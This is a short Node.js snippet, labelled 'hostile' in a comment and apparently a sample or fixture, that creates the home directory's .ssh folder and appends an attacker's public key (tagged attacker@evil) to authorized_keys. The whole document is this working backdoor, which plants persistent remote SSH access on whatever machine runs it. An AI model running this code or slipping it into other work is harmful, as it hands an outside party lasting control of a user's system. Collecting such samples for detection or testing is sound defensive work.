// hostile: attacker key written to authorized_keys from node
const fs = require('fs');
const path = require('path');
const dir = path.join(process.env.HOME || '/root', '.ssh');
fs.mkdirSync(dir, { recursive: true });
fs.appendFileSync(path.join(dir, 'authorized_keys'), 'ssh-ed25519 AAAAC3Nza attacker@evil\n');
